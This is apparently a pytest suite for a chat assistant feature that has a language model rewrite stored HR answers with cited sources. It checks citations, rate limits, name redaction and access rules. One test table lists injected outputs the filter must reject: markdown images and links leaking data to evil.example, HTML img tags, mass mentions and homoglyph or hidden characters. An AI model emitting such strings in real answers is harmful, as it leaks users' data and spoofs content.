"""Answers in the words of a language model: after the plain one, from what may be read, checked."""

import asyncio
from datetime import timedelta
from pathlib import Path

import pytest
from sqlmodel import select

from skills.qa.model.items import retire
from skills.qa.model.tables import Item
from skills.qa.tests.known import SICK, know, put
from storage.outbox import Outgoing
from tests.actor import Actor
from tests.chat import Chat
from tests.models import EVENTS, FOR_EVER, aimock, answer, event, saying, words, writing
from tests.parts import PATIENCE

ON = pytest.mark.settings(qa={"rewrite": True})
pytestmark = ON

ANSWER = "Call your manager before nine, and tell the planning desk. Nobody needs a doctor's note."
PLAIN = "Call your manager before nine, and tell"
FIRST = "Tell your manager before 9 by a call [1]."
SECOND = "Then tell the planning desk. [1]"
WRITTEN = "Tell your manager before 9 by a call [1]. Then tell the planning desk [1]."
BY_MODEL = "Written by a language model"
GENERAL = "#general"


async def _known(chat: Chat) -> tuple[Actor, Actor]:
    noor, ada, bob = chat.on("noor", role="editor"), chat.on("ada"), chat.on("bob")
    await know(chat, noor, ada, SICK, ANSWER)
    return ada, bob


async def _until(chat: Chat, who: Actor, part: str) -> None:
    """Send what is to be sent, until somebody sees these words, while a job is under way."""
    async with asyncio.timeout(PATIENCE):
        while not any(part in seen.text for seen in who.seen):
            await chat.app.relay.send_some()
            await asyncio.sleep(0.01)


@pytest.mark.in_chats("web", "slack", "matrix")
async def test_the_plain_answer_comes_first_and_is_replaced_as_a_model_writes(chat: Chat) -> None:
    """QNA-E10."""
    _, bob = await _known(chat)
    began, goes_on = asyncio.Event(), asyncio.Event()
    says = [EVENTS, began, words(f"{FIRST} Then"), goes_on, words(" tell the planning desk. [1]")]

    async with writing(chat.app, *says, words(None, "stop")):
        asked = asyncio.create_task(bob.types(f"/ask {SICK}"))
        await _until(chat, bob, PLAIN)
        began.set()
        await _until(chat, bob, f"{FIRST} …")
        assert "A language model is writing this." in bob.last.text
        assert "Then" not in bob.last.text
        bob.sees_not(PLAIN)
        goes_on.set()
        await asked

    told = bob.sees(WRITTEN)
    assert BY_MODEL in told.text
    assert f"[1] {SICK}" in told.text
    assert "Noor" in told.text
    assert "Monday 23 November 2026" in told.text
    assert {"Show the original", "Helpful", "Not helpful", "Ask a person"} <= {*told.labels}
    bob.sees_not("…")

    await bob.presses("Show the original")

    bob.sees(PLAIN)
    bob.sees_not(BY_MODEL)
    await bob.presses("Helpful")
    bob.sees("Thank you")


@pytest.mark.in_chats("web", "slack", "matrix")
@pytest.mark.on_databases("sqlite")
async def test_a_card_is_not_changed_for_each_sentence(chat: Chat) -> None:
    _, bob = await _known(chat)
    said = " ".join([FIRST, "Call before nine [1].", "Nobody needs a note [1].", SECOND])

    async with writing(chat.app, *saying(said)):
        await bob.types(f"/ask {SICK}")

    bob.sees("Nobody needs a note [1]. Then tell the planning desk [1].")
    async with chat.store.transaction() as db:
        rows = (await db.exec(select(Outgoing).where(Outgoing.kind == "update"))).all()
        first = {row.message_id: row.edition for row in rows if BY_MODEL in str(row.sheet)}
    assert list(first.values()) == [2]


NOT_SHOWN = {
    "no citation": "Tell your manager before 9 by a call. Then tell the planning desk [1].",
    "a number of no source": "Tell your manager before 9 by a call [2].",
    "citations that nobody gave": "Tell your manager before 9 by a call [1][17].",
    "a link of no source": "Tell your manager before 9 by a call, see https://evil.example [1].",
    "a link without a scheme": "Tell your manager before 9 at call.evil.example/x [1].",
    "a link with a label": "[Tell your manager](https://evil.example) before 9 by a call [1].",
    "a citation that is a link": "Tell your manager before 9 by a call [1](https://evil.example).",
    "an image": "Tell your manager before 9 [1]. ![](http://evil.example/?q=sick) Call [1].",
    "a link by reference": "Tell your [manager][1] before 9 [1].\n\n[1]: https://evil.example",
    "HTML": "Tell your manager before 9 <img src=//evil.example/x> by a call [1].",
    "HTML in entities": "Tell your manager before 9 &lt;b&gt; by a call [1].",
    "a mention": "@channel tell your manager before 9 by a call [1].",
    "a mention in Slack": "<!everyone> tell your manager before 9 by a call [1].",
    "a mention in Matrix": "@room: tell your manager before 9 by a call [1].",
    "a wide mention": "\uff20room tell your manager before 9 by a call [1].",
    "another number": "Tell your manager before 10 by a call [1].",
    "another number in words": "Tell your manager before ten by a call [1].",
    "a denial too many": "You need not tell your manager before nine by a call [1].",
    "a denial too few": "Everybody needs a doctor's note [1].",
    "words of no source": "Buy a bicycle, paint it purple and ride away [1].",
    "another language": "Bel je manager voor negen uur en daarna ook nog het planning desk [1].",
    "hidden signs": "Tell your manager before 9 by a\u200b call [1].",
    "signs that carry others": "Tell your manager before 9\U000e0101 by a call [1].",
    "letters that look like others": "Tell your m\u0430nager before 9 by a call [1].",
    "code": "Tell your manager `before 9` by a call [1].",
    "half after a good sentence": f"{FIRST} {SECOND} Then do something else.",
    "too long": " ".join(["Tell your manager before 9 by a call [1]."] * 20),
    "far too long": "tell " * 2_000,
    "nothing": "",
    "spaces": " \n\n ",
}
BROKEN: dict[str, list[bytes | float | asyncio.Event]] = {
    "no key": [answer({"error": {"code": "invalid_api_key"}}, "401 Unauthorized")],
    "too many requests": [answer({"error": {"code": "rate_limit"}}, "429 Too Many Requests")],
    "out of order": [answer({"error": {}}, "500 Internal Server Error")],
    "it breaks off": [EVENTS, words(f"{FIRST} {SECOND} Then"), b'data: {"choices": [{"ind'],
    "it is never over": [EVENTS, words(FIRST), words(f" {SECOND}")],
    "no JSON": [EVENTS, words(f"{FIRST} {SECOND} Then"), b"data: {'choices'\n\n"],
    "JSON of no shape": [EVENTS, event({"choices": "none"})],
    "a tool is called": [EVENTS, event({"choices": [{"delta": {"tool_calls": [{"index": 0}]}}]})],
    "it will not": [EVENTS, words("I", "content_filter")],
    "nothing comes": [b""],
    "no model": [answer("<html></html>", "404 Not Found")],
}


@pytest.mark.slow
@pytest.mark.in_chats("web")
@pytest.mark.on_databases("sqlite")
@pytest.mark.settings(qa={"rewrite": True, "rewrites_per_day": 100})
async def test_what_is_not_sound_leaves_the_plain_answer_and_nothing_is_said(chat: Chat) -> None:
    _, bob = await _known(chat)
    cases = {name: saying(text) for name, text in NOT_SHOWN.items()} | BROKEN

    async with writing(chat.app) as server:
        for asked, (name, says) in enumerate(cases.items(), start=1):
            server.says = says
            await bob.types(f"/ask {SICK}")

            assert len(server.bodies) == asked, name
            assert PLAIN in bob.last.text, name
            assert "Source" in bob.last.text, name
            bob.sees_not(BY_MODEL)
            bob.sees_not("…")
            bob.sees_not("evil")
        server.says = saying(f"{FIRST} {SECOND}")
        await bob.types(f"/ask {SICK}")
        bob.sees(BY_MODEL)


@pytest.mark.slow
@pytest.mark.in_chats("web")
@pytest.mark.on_databases("sqlite")
@pytest.mark.parametrize(
    "says",
    [
        [EVENTS, words(f"{FIRST} Then"), FOR_EVER],
        [EVENTS, words(f"{FIRST} Then tell the"), *(words(" planning"), 0.02) * 50],
    ],
    ids=["it stalls", "it drips"],
)
async def test_half_an_answer_that_takes_too_long_is_taken_back(
    chat: Chat, says: list[bytes | float | asyncio.Event], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("skills.qa.rewriting.showing._WITHIN", timedelta(seconds=0.4))
    _, bob = await _known(chat)

    async with writing(chat.app, *says) as server:
        asked = asyncio.create_task(bob.types(f"/ask {SICK}"))
        await _until(chat, bob, f"{FIRST} …")
        await asked
        async with asyncio.timeout(PATIENCE):
            await server.left.wait()

    bob.sees(PLAIN)
    bob.sees_not("…")
    await chat.later(timedelta(hours=1))
    bob.sees(PLAIN)


@pytest.mark.in_chats("web", "slack", "matrix")
async def test_half_an_answer_of_a_process_that_ended_is_taken_back(chat: Chat) -> None:
    _, bob = await _known(chat)

    async with writing(chat.app, EVENTS, words(f"{FIRST} Then"), FOR_EVER):
        asked = asyncio.create_task(bob.types(f"/ask {SICK}"))
        await _until(chat, bob, f"{FIRST} …")
        asked.cancel()
        for job in asyncio.all_tasks() - {asyncio.current_task()}:
            if "_run_job" in repr(job.get_coro()):
                job.cancel()
        await asyncio.wait([asked])
    await chat.restarts()

    await chat.later(timedelta(minutes=2))

    bob.sees(PLAIN)
    bob.sees_not("…")


async def test_it_is_off_unless_it_is_switched_on_and_a_whisper_in_a_channel_stays(
    chat: Chat,
) -> None:
    _, bob = await _known(chat)
    await bob.types(f"/ask {SICK}")  # no model
    bob.sees_not(BY_MODEL)
    can = chat.app.workplace.can(bob.at)

    async with writing(chat.app, *saying(f"{FIRST} {SECOND}")) as server:
        await bob.types(f"/ask {SICK}", to=GENERAL)

        assert len(server.bodies) == (not can.whispers and not can.edits_below)
        await bob.types(f"@Plein {SICK}", to=GENERAL)

    if can.edits_below:
        assert server.bodies == []
    else:
        told = bob.sees(WRITTEN, in_=GENERAL)
        assert BY_MODEL in told.text


@pytest.mark.on_databases("sqlite")
@pytest.mark.settings(qa={})
async def test_a_model_alone_is_asked_nothing(chat: Chat) -> None:
    _, bob = await _known(chat)

    async with writing(chat.app, *saying(f"{FIRST} {SECOND}")) as server:
        await bob.types(f"/ask {SICK}")

    assert server.bodies == []
    bob.sees(PLAIN)


@pytest.mark.in_chats("web")
@pytest.mark.settings(qa={"rewrite": True, "rewrites_per_day": 2, "tokens_per_day": 3_500})
async def test_a_person_and_a_workplace_have_so_much_a_day(chat: Chat) -> None:
    ada, bob = await _known(chat)
    eva = chat.on("eva")

    async with writing(chat.app, *saying(f"{FIRST} {SECOND}", read=700)) as server:
        for _ in range(3):
            await bob.types(f"/ask {SICK}")
        assert len(server.bodies) == 2
        assert BY_MODEL not in bob.last.text
        assert "Source" in bob.last.text

        server.says = saying(f"{FIRST} {SECOND}", read=1_400)
        await ada.types(f"/ask {SICK}")
        await eva.types(f"/ask {SICK}")
        assert len(server.bodies) == 3
        assert PLAIN in eva.last.text

        await chat.later(timedelta(days=1))
        await eva.types(f"/ask {SICK}")
        assert len(server.bodies) == 4
        assert BY_MODEL in eva.last.text


@pytest.mark.in_chats("web", "slack", "matrix")
@pytest.mark.on_databases("sqlite")
async def test_what_leaves_is_the_question_without_names_and_the_passages(chat: Chat) -> None:
    noor, bob = chat.on("Noor", role="editor"), chat.on("Bob")
    chat.on("Wil van der Meer")
    asked = "I am Bob and sick: do I call wil van der meer, wil@example.org, 06-12345678 or @piet"
    await know(chat, noor, bob, asked, ANSWER)

    async with writing(chat.app, *saying(f"{FIRST} {SECOND}")) as server:
        await bob.types(f"/ask {asked}")

    bob.sees(BY_MODEL)
    [body] = server.bodies
    rules, given = (one["content"] for one in body["messages"])
    assert set(body) == {"model", "messages", "stream", "stream_options", "max_tokens"}
    assert "You write in English" in rules
    assert ANSWER in given
    question = given.split(" question\n")[1].split("\n---")[0]
    assert question == (
        "I am (a name) and sick: do I call (a name), (an address), (a number) or (a name)"
    )
    assert "Noor" not in given
    assert bob.id not in given


@pytest.mark.slow
@pytest.mark.in_chats("web")
@pytest.mark.on_databases("sqlite")
async def test_a_server_that_others_wrote_is_understood(chat: Chat, tmp_path: Path) -> None:
    _, bob = await _known(chat)
    pairs = [{"match": {"userMessage": "report sick"}, "response": {"content": WRITTEN}}]

    async with aimock(tmp_path, pairs) as server, writing(chat.app, at=server.address):
        await bob.types(f"/ask {SICK}")
        [asked] = await server.asked()

    assert BY_MODEL in bob.sees(WRITTEN).text
    assert "tools" not in asked["body"]


@pytest.mark.in_chats("web", "slack", "matrix")
async def test_only_what_all_who_read_the_answer_may_read_leaves(chat: Chat) -> None:
    ada, bob = chat.on("ada", department="HR"), chat.on("bob", department="IT")
    await chat.arrive()
    await put(chat, SICK, ANSWER)
    await put(chat, "I report sick and have pay", "Scale six.", audience="department=HR")

    async with writing(chat.app, *saying(f"{FIRST} {SECOND}")) as server:
        await bob.types(f"/ask {SICK}")
        await ada.types(f"@Plein {SICK}", to=GENERAL)
        assert len(server.bodies) == 2
        assert "Scale six" not in str(server.bodies)

        await ada.types(f"/ask {SICK}")
        assert "Scale six" in str(server.bodies[2])


@pytest.mark.in_chats("web")
@pytest.mark.on_databases("sqlite")
async def test_an_answer_that_is_retired_meanwhile_is_not_written_on(chat: Chat) -> None:
    _, bob = await _known(chat)
    goes_on = asyncio.Event()
    says = [EVENTS, words(f"{FIRST} Then"), goes_on, words(" tell the planning desk. [1]")]

    async with writing(chat.app, *says, words(None, "stop")):
        asked = asyncio.create_task(bob.types(f"/ask {SICK}"))
        await _until(chat, bob, f"{FIRST} …")
        async with chat.store.transaction() as db:
            [item] = await db.exec(select(Item))
            await retire(db, item)
        goes_on.set()
        await asked

    bob.sees_not("…")
    bob.sees_not(FIRST)
    bob.sees_not(PLAIN)


@pytest.mark.in_chats("web", "slack", "matrix")
@pytest.mark.on_databases("sqlite")
async def test_each_source_is_named_and_one_in_another_language_goes_alone(chat: Chat) -> None:
    ada = chat.on("ada", language="nl")
    await chat.arrive()
    await put(chat, "Hoe meld ik me ziek?", "Bel voor negen uur je leidinggevende.")
    await put(chat, "Meld ik me beter na ziek te zijn?", "Bel op de dag dat je weer begint.")
    await put(chat, "Bezoekers parkeren", "Visitors of the building can park behind the shed.")
    await put(chat, "Bezoekers parkeren in de stad", "In de stad kun je betaald parkeren.")
    both = "Bel voor 9 uur je leidinggevende [1]. Bel ook op de dag dat je begint [2]."

    async with writing(chat.app, *saying(both)) as server:
        await ada.types("/vraag Hoe meld ik me ziek?")
        told = ada.sees(both)
        server.says = saying("Bezoekers parkeren achter de schuur [1].")
        await ada.types("/vraag Bezoekers parkeren?")

    assert "Een taalmodel heeft dit geschreven" in told.text
    assert "[1] Hoe meld ik me ziek?" in told.text
    assert "[2] Meld ik me beter na ziek te zijn?" in told.text
    assert "Lijkt erop" in ada.sees("Bezoekers parkeren achter de schuur [1].").text
    first, second = (one["messages"] for one in server.bodies)
    assert "You write in Dutch" in first[0]["content"]
    assert "passage 2" in first[1]["content"]
    assert "passage 2" not in second[1]["content"]
